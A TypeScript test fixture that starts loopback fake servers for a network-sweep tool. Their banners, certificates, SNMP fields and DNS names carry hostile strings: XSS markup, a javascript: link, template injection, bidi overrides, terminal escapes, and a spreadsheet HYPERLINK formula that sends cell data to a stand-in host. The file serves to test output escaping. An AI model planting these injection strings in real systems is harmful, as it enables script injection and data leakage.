// Loopback machines that announce hostile texts by every protocol whose text a sweep stores, in their HTTPS certificate
// and by SNMP, and a name server with such names. No assertions.

import { parseIp } from "../../../src/base/ip.ts";
import { reverseName } from "../../../src/discovery/sweep/reverse-name.ts";
import { nobodyListens, type SnmpAgent } from "../snmp/agent.ts";
import { startAgents } from "../snmp/agents.ts";
import { type SnmpView, viewOf } from "../snmp/view.ts";
import { makeNamedPair } from "../tls/certificates.ts";

/** Executed parts set `broken` of the window. */
export const ANNOUNCED = {
  markup: `"><img src=x onerror=broken=1><script>broken=2</script>`,
  link: "javascript:broken=3",
  formula: `=HYPERLINK("http://elsewhere.example/?"&A1,"click")`,
  template: "{{7*7}}${broken=4}&lt;img src=x onerror=broken=5&gt;",
  /** A closing isolate without an open one, unclosed overrides and isolates, marks, and right-to-left letters. */
  direction: "\u2069\u202e\u2067\u200fשרת-הדפסה خادم gnp.exe\u061c",
  /** A terminal escape sequence, a tab, JavaScript's line terminators, the terminator of a C string. */
  control: "a\x1b[31mb\x07\tc\u0085d\u2028e\x7ff\x00g",
  long: "W".repeat(12_000),
  /** A byte invalid in UTF-8, a lead byte without its continuation, a surrogate. */
  invalid: Buffer.from("611cff62c32863eda08064", "hex"),
  /** Combining marks stacked above and below a letter. */
  piled: `Z${"\u0335\u0321\u0301\u0489\u0316".repeat(16)}algo`,
  /** Letters and symbols without a visible glyph. */
  blank: "\u3164\u2800\u115f\uffa0",
} as const;

/** Prefix of every name in a certificate, used nowhere else. */
export const CERTIFIED = "certificateholder";

export type Announced = keyof typeof ANNOUNCED;

const WORDS = Object.keys(ANNOUNCED) as Announced[];

/** 127.17.67.1 and on, in the order of ANNOUNCED. */
export const MACHINES = WORDS.map((_, place) => `127.17.67.${place + 1}`);

/** Answers name queries, and version queries by the same protocol. */
export const NAME_SERVER = "127.17.67.53";

/** PTR names of addresses without listeners: labels as bytes, several names each. */
const NAMES: Readonly<Record<string, readonly (readonly (string | Uint8Array)[])[]>> = {
  "127.17.67.101": [[ANNOUNCED.markup]],
  "127.17.67.102": [[ANNOUNCED.link]],
  "127.17.67.103": [["שרת", "example"]],
  "127.17.67.104": [[Buffer.from("a\x1b[31m\0b"), "example"]],
  "127.17.67.105": [[Buffer.from("ff61c328", "hex"), "example"]],
  "127.17.67.106": [[..."abc"].map((letter) => letter.repeat(63)).concat("d".repeat(61))],
  "127.17.67.107": [["constructor"]],
  "127.17.67.108": [
    [ANNOUNCED.markup.slice(0, 30), "example"],
    ["honest", "example"],
  ],
  "127.17.67.109": [["xn--4dbrk0ce"]],
};

/** Addresses with names, whether or not a service listens. */
export const NAMED = Object.keys(NAMES);

interface Greeting {
  /** Greeting on connection, or on a request if `isAsked`. @param word on one line */
  readonly said: (word: Uint8Array) => Uint8Array;
  readonly isAsked?: boolean;
  readonly isTls?: boolean;
}

const bytesOf = (...parts: readonly (string | Uint8Array)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === "string" ? Buffer.from(part) : part)));

/** In HTML, markup is escaped so that the title contains it verbatim. */
const inHtml = (word: Uint8Array) =>
  Buffer.from(Buffer.from(word).toString("latin1").replaceAll("<", "&lt;"), "latin1");

function webPage(word: Uint8Array): Uint8Array {
  const body = bytesOf("<!doctype html><title>", inHtml(word), "</title>");
  const head = `Content-Type: text/html; charset=utf-8\r\nContent-Length: ${body.length}\r\n\r\n`;
  return bytesOf("HTTP/1.1 200 OK\r\nServer: ", word, "\r\n", head, body);
}

/** By port: that of the protocol, or one where a service that speaks first is identified by its greeting. */
const GREETINGS: Readonly<Record<number, Greeting>> = {
  2121: { said: (word) => bytesOf("220 ", word, " FTP server\r\n") },
  // Without a space: the rest would be a comment.
  2222: {
    said: (word) =>
      bytesOf(
        "SSH-2.0-",
        Buffer.from(word).map((byte) => (byte === 0x20 ? 0x2f : byte)),
        "\r\n",
      ),
  },
  2323: { said: (word) => bytesOf("\r\nto ", word, "\r\n\r\nlogin: ") },
  2525: { said: (word) => bytesOf("220 ", word, " ESMTP\r\n") },
  5672: { said: amqpStart, isAsked: true },
  8080: { said: webPage, isAsked: true },
  8081: {
    said: (word) =>
      bytesOf('HTTP/1.1 401 No\r\nWWW-Authenticate: Basic realm="', word, '"\r\nContent-Length: 0\r\n\r\n'),
    isAsked: true,
  },
  8443: { said: webPage, isAsked: true, isTls: true },
  8554: { said: (word) => bytesOf("RTSP/1.0 200 OK\r\nCSeq: 1\r\nServer: ", word, "\r\n\r\n"), isAsked: true },
  11211: { said: (word) => bytesOf("VERSION ", word, "\r\n"), isAsked: true },
  40110: { said: (word) => bytesOf("+OK ", word, " ready\r\n") },
  40143: { said: (word) => bytesOf("* OK ", word, " ready\r\n") },
};

/** Ports a sweep must probe to read all greetings; includes closed ones, or the machine would be taken for a proxy. */
export const HOSTILE_PORTS = [9, 53, ...Object.keys(GREETINGS).map(Number)];

/** Method frame of channel 0, class and method 10, version 0.9, and the properties product and version. */
function amqpStart(word: Uint8Array): Uint8Array {
  // The length of a short text is one byte.
  const product = word.subarray(0, 200);
  const method = bytesOf(
    "\0\x0a\0\x0a\0\x09\0\0\0\x32\x07productS\0\0\0",
    Uint8Array.of(product.length),
    product,
    "\x07versionS\0\0\0\x011",
  );
  const head = Buffer.from([1, 0, 0, 0, 0, 0, 0]);
  head.writeUInt32BE(method.length, 3);
  return bytesOf(head, method, Uint8Array.of(0xce));
}

export class HostileMachines {
  readonly snmpPort: number;
  private readonly agents: readonly SnmpAgent[];
  private readonly closings: readonly (() => void)[];
  private turn = 0;

  private constructor(agents: readonly SnmpAgent[], listening: (own: HostileMachines) => readonly (() => void)[]) {
    this.agents = agents;
    this.snmpPort = agents[0]?.port ?? 0;
    this.closings = listening(this);
  }

  /** @param hasNames whether to start the name server as well, which requires root */
  static async start(hasNames: boolean): Promise<HostileMachines> {
    const agents = await startAgents(
      MACHINES.map((address, place) => ({
        address,
        communities: { public: announcedBySnmp(place, wordOf(place, 0)) },
      })),
    );
    const pairs = await Promise.all(WORDS.map((word) => makeNamedPair(`${CERTIFIED} ${ANNOUNCED[word]}`)));
    const server = hasNames ? await nameServer() : [];
    return new HostileMachines(agents, (own) => [
      ...MACHINES.flatMap((address, place) =>
        Object.entries(GREETINGS).map(([port, greeting]) => {
          return listen(address, Number(port), greeting, () => wordOf(place, own.turn), pairs[place]);
        }),
      ),
      ...server,
    ]);
  }

  /** The text that a machine announces. */
  announcedAt(address: string): Announced {
    return WORDS[(MACHINES.indexOf(address) + this.turn) % WORDS.length] as Announced;
  }

  /** Exchanges the texts between the machines. */
  swap(): void {
    this.turn += 1;
    for (const [place, agent] of this.agents.entries())
      agent.serve("public", announcedBySnmp(place, wordOf(place, this.turn)));
  }

  close(): void {
    for (const agent of this.agents) agent.close();
    for (const close of this.closings) close();
  }
}

function wordOf(place: number, turn: number): Uint8Array {
  const word = ANNOUNCED[WORDS[(place + turn) % WORDS.length] as Announced];
  return typeof word === "string" ? Buffer.from(word) : word;
}

function listen(
  hostname: string,
  port: number,
  { said, isAsked = false, isTls = false }: Greeting,
  word: () => Uint8Array,
  pair: { readonly certificate: string; readonly privateKey: string } | undefined,
): () => void {
  const say = (socket: { end(bytes: Uint8Array): unknown }) => void socket.end(said(word()));
  const listener = Bun.listen({
    hostname,
    port,
    ...(isTls && pair !== undefined ? { tls: { cert: pair.certificate, key: pair.privateKey } } : {}),
    socket: {
      open: (socket) => {
        if (!isAsked) say(socket);
      },
      data: (socket) => {
        if (isAsked) say(socket);
      },
      error: nobodyListens,
    },
  });
  return () => listener.stop(true);
}

/** A device with a port; all its texts are the word. */
function announcedBySnmp(place: number, word: Uint8Array): SnmpView {
  const text = word.subarray(0, SNMP_TEXT_MAX_BYTES);
  const mac = Uint8Array.of(0x00, 0x1b, 0x21, 0x67, 0x67, place);
  const LOCALLY_ASSIGNED = 7;
  return viewOf({
    "1.3.6.1.2.1.1.1.0": text,
    "1.3.6.1.2.1.1.2.0": { oid: "1.3.6.1.4.1.8072.3.2.10" },
    "1.3.6.1.2.1.1.4.0": text,
    "1.3.6.1.2.1.1.5.0": text,
    "1.3.6.1.2.1.1.6.0": text,
    "1.3.6.1.2.1.2.2.1.1.1": 1,
    "1.3.6.1.2.1.2.2.1.2.1": text,
    "1.3.6.1.2.1.2.2.1.3.1": 6,
    "1.3.6.1.2.1.2.2.1.6.1": mac,
    "1.3.6.1.2.1.2.2.1.7.1": 1,
    "1.3.6.1.2.1.2.2.1.8.1": 1,
    "1.3.6.1.2.1.31.1.1.1.1.1": text,
    "1.3.6.1.2.1.31.1.1.1.18.1": text,
    "1.0.8802.1.1.2.1.3.1.0": 4,
    "1.0.8802.1.1.2.1.3.2.0": mac,
    "1.0.8802.1.1.2.1.3.7.1.2.1": 5,
    "1.0.8802.1.1.2.1.3.7.1.3.1": text,
    "1.0.8802.1.1.2.1.4.1.1.4.0.1.1": LOCALLY_ASSIGNED,
    "1.0.8802.1.1.2.1.4.1.1.5.0.1.1": text,
    "1.0.8802.1.1.2.1.4.1.1.6.0.1.1": LOCALLY_ASSIGNED,
    "1.0.8802.1.1.2.1.4.1.1.7.0.1.1": text,
    "1.0.8802.1.1.2.1.4.1.1.8.0.1.1": text,
    "1.0.8802.1.1.2.1.4.1.1.9.0.1.1": text,
    "1.0.8802.1.1.2.1.4.1.1.10.0.1.1": text,
  });
}

/** Allows several in a datagram. */
const SNMP_TEXT_MAX_BYTES = 600;

/** Answers PTR over UDP and `version.bind` over TCP (RFC 1035 section 4). */
async function nameServer(): Promise<readonly (() => void)[]> {
  const named = new Map(
    Object.entries(NAMES).map(([address, names]) => [reverseName(parseIp(address) as never), names] as const),
  );
  const udp = await Bun.udpSocket({
    hostname: NAME_SERVER,
    port: 53,
    socket: {
      data: (socket, query, port, from) => {
        const { name, end } = questionIn(query);
        const records = (named.get(name) ?? []).map((labels) => record(12, 1, dnsName(labels)));
        socket.send(reply(query.subarray(0, end), records), port, from);
      },
      error: nobodyListens,
    },
  });
  const tcp = Bun.listen({
    hostname: NAME_SERVER,
    port: 53,
    socket: {
      data: (socket, bytes) => {
        const word = Buffer.from(ANNOUNCED.markup);
        const message = reply(bytes.subarray(2), [record(16, 3, bytesOf(Uint8Array.of(word.length), word))]);
        socket.end(bytesOf(Uint8Array.of(message.length >>> 8, message.length & 0xff), message));
      },
      error: nobodyListens,
    },
  });
  return [() => udp.close(), () => tcp.stop(true)];
}

const HEADER_BYTES = 12;

/** @returns the queried name in lower case, and the end of its question */
function questionIn(query: Uint8Array): { readonly name: string; readonly end: number } {
  const labels: string[] = [];
  let at = HEADER_BYTES;
  for (let length = query[at] ?? 0; length > 0; length = query[at] ?? 0) {
    labels.push(Buffer.from(query.subarray(at + 1, at + 1 + length)).toString("latin1"));
    at += length + 1;
  }
  return { name: labels.join(".").toLowerCase(), end: at + 5 };
}

/** @param asked header and question of the query */
function reply(asked: Uint8Array, records: readonly Uint8Array[]): Uint8Array {
  const message = bytesOf(asked, ...records);
  // An authoritative answer; NXDOMAIN without a record.
  message.set([0x85, records.length === 0 ? 0x83 : 0x80, 0, 1, 0, records.length, 0, 0, 0, 0], 2);
  return message;
}

/** For the queried name, which is the first of the message. */
function record(type: number, family: number, data: Uint8Array): Uint8Array {
  return bytesOf(Uint8Array.of(0xc0, HEADER_BYTES, 0, type, 0, family, 0, 0, 0, 0, 0, data.length), data);
}

function dnsName(labels: readonly (string | Uint8Array)[]): Uint8Array {
  return bytesOf(
    ...labels.flatMap((label) => {
      const bytes = bytesOf(label);
      return [Uint8Array.of(bytes.length), bytes];
    }),
    Uint8Array.of(0),
  );
}
